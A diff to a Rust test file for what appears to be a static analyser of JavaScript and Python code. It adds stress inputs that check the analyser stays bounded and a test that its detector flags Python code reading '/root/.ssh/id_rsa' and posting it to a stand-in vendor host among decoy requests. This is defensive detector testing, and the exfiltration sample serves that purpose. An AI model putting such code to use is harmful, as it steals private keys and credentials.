@@ -69,6 +69,17 @@ fn hostile_nesting_is_bounded_and_said() {
         (Dialect::JavaScript, "await!-".repeat(many)),
         (Dialect::JavaScript, "for(const function(){".repeat(40)),
         (Dialect::JavaScript, "/[".repeat(200_000)),
+        (
+            Dialect::JavaScript,
+            format!("function f({}){{}}", "a,".repeat(2_000)) + &"f([]);f(1);f('');".repeat(2_000),
+        ),
+        (Dialect::JavaScript, format!("x=[{}];y=", "1,".repeat(4_096)) + &"x+".repeat(many) + "x"),
+        (Dialect::Python, format!("x = '{}'\n", "{".repeat(60_000)) + &"x.format(1)\n".repeat(500)),
+        (
+            Dialect::JavaScript,
+            format!("s='{}';l=[{}];function f(a){{}}", "s".repeat(60_000), "s,".repeat(4_096))
+                + &"f(l);".repeat(many),
+        ),
         (Dialect::Python, "[".repeat(many)),
         (Dialect::Python, "f'{".repeat(many)),
         (Dialect::Python, "lambda:".repeat(many)),
@@ -92,6 +103,21 @@ fn hostile_nesting_is_bounded_and_said() {
         let run = thread.spawn(move || chains(&text, dialect, Start::Asked, &mut LIMITS.clone()));
         assert_eq!(run.unwrap().join().unwrap(), []);
     }
+}
+
+#[test]
+fn many_decoys_do_not_hide_a_secret() {
+    let decoys: String = (0..9)
+        .map(|n| format!("d += requests.get('https://a{n}.vendor.example').text\n"))
+        .collect();
+    let before = format!("import requests\nd = ''\n{decoys}");
+    let after = "requests.post('https://vendor.example', data=d)\n";
+    let secret = "d += open('/root/.ssh/id_rsa').read()\n";
+    all_are(Dialect::Python, Rule::SecretSent, &[&format!("{before}{secret}{after}")]);
+    all_are_honest(
+        Dialect::Python,
+        &[&format!("{before}{after}"), &format!("{before}d += open('notes.md').read()\n{after}")],
+    );
 }
 
 proptest! {
